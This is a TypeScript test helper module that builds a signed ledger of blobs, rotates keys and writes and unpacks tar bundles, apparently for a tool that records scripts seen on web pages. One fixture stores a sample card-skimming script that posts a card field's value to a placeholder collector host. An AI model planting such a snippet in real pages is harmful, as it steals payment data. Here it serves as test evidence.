import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type BundleVerdict, openFileBlobs, openKeys, openLedger, writeBundle } from '../src/index.ts';
import { bytes, NAME, tar, tempDir } from './helpers.ts';

/** A shop's ledger as it could be: `count` entries, some of which refer to recordings that refer to bodies; one rotation. */
export async function evidence(count: number, rotateAt?: number) {
  const dir = tempDir('memory');
  const keys = await openKeys({ dir: join(dir, 'keys'), name: NAME });
  const blobs = await openFileBlobs({ dir: join(dir, 'blobs') });
  const ledger = await openLedger({ dir: join(dir, 'ledger'), keys });
  const script = await blobs.put(bytes('fetch("https://collector.invalid/", { body: card.value })'));
  const recording = await blobs.put(
    bytes(JSON.stringify({ scripts: [{ body: script }], never: `sha256:${'0'.repeat(64)}` })),
  );
  const empty = await blobs.put(new Uint8Array(0));
  const text = (at: number): string => {
    if (at % 7 === 3) return JSON.stringify({ kind: 'judged', at, data: { judgement: recording } });
    if (at % 7 === 5) return JSON.stringify({ kind: 'odd', at, data: [empty, `sha256:${'1'.repeat(64)}`] });
    return JSON.stringify({ kind: 'plain', at });
  };
  while (ledger.size < count) {
    const until = rotateAt !== undefined && ledger.size < rotateAt ? rotateAt : count;
    await Promise.all(
      Array.from({ length: until - ledger.size }, (_, at) => ledger.append(bytes(text(ledger.size + at)))),
    );
    if (ledger.size === rotateAt) await ledger.rotateKey();
  }
  return { dir, keys, blobs, ledger, refs: { script, recording, empty }, firstVkey: keys.firstVkey };
}

export type Evidence = Awaited<ReturnType<typeof evidence>>;

export async function bundled(from: Evidence, range: { from?: number; to?: number } = {}) {
  const out = join(tempDir('memory'), 'bundle.tar');
  const written = await writeBundle({ ledger: from.ledger, blobs: from.blobs, out, ...range });
  return { out, written, content: readFileSync(out) };
}

export function unpacked(out: string): string {
  const dir = join(tempDir('memory'), 'unpacked');
  mkdirSync(dir);
  tar('xf', out, '-C', dir);
  return dir;
}

export const blame = (verdict: BundleVerdict): readonly string[] =>
  verdict.ok ? [] : verdict.problems.map(({ file }) => file);
